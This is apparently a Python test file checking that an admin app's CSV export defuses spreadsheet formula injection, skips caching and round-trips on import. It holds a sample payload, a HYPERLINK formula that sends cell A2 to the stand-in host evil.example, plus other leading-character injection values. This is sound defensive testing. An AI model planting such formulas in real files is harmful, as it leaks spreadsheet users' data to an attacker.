"""CSV downloads (issue 13): no cell runs as a formula in a spreadsheet, and no cache keeps the file.

The one CSV download is 参数表's export (which is also the import format), so a value typed by the sysadmin is
what an attacker controls here; `app.web.downloads.safe_cell` is the one place that neutralises a cell.
"""
import csv
import io

import sqlalchemy as sa

from app.extensions import db
from app.refdata import search
from app.refdata.models import CodeEntry
from tests.support import csrf_token, post

EVIL = '=HYPERLINK("http://evil.example/?"&A2,"点击查看")'


def _edit_transport_mode(app, client, **values):
    with app.app_context():
        entry_id = db.session.scalar(sa.select(CodeEntry.id).where(CodeEntry.table == "transport_mode",
                                                                    CodeEntry.code == "2"))
    url = f"/admin/refdata/transport_mode/{entry_id}"
    data = {"code": "2", "name_zh": "水路运输", "name_en": "Sea", "category": "", "sort": "1",
            "attrs": '{"phrase": "BY SEA"}', "source": "local", "active": "y", **values}
    assert post(client, url, data, url).status_code == 302


def _export(client):
    response = client.get("/admin/refdata/transport_mode/export.csv")
    assert response.status_code == 200
    return response, list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))


def test_it_exports_a_formula_as_text(app, client, cast, log_in):
    log_in("root_admin")
    _edit_transport_mode(app, client, name_en=EVIL, name_zh="+86 水路", source="@evil", sort="-3")
    _response, rows = _export(client)
    row = next(r for r in rows if r[0] == "2")
    assert row[2] == "'" + EVIL and row[1] == "'+86 水路" and row[7] == "'@evil" and row[5] == "'-3"
    for cells in rows:
        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in cells), cells


def test_the_download_is_not_cached(client, cast, log_in):
    log_in("root_admin")
    response, _rows = _export(client)
    assert response.headers["Cache-Control"] == "no-store"
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"] == "attachment; filename=transport_mode.csv"


def test_an_exported_file_imports_back_unchanged(app, client, cast, log_in):
    log_in("root_admin")
    _edit_transport_mode(app, client, name_en=EVIL)
    response, _rows = _export(client)
    token = csrf_token(client.get("/admin/refdata/transport_mode").get_data(as_text=True))
    imported = client.post("/admin/refdata/transport_mode/import", content_type="multipart/form-data",
                           data={"csrf_token": token, "file": (io.BytesIO(response.get_data()), "transport.csv")})
    assert imported.status_code == 302
    with app.app_context():
        assert search.get("transport_mode", "2").name_en == EVIL  # not "'=HYPERLINK…"
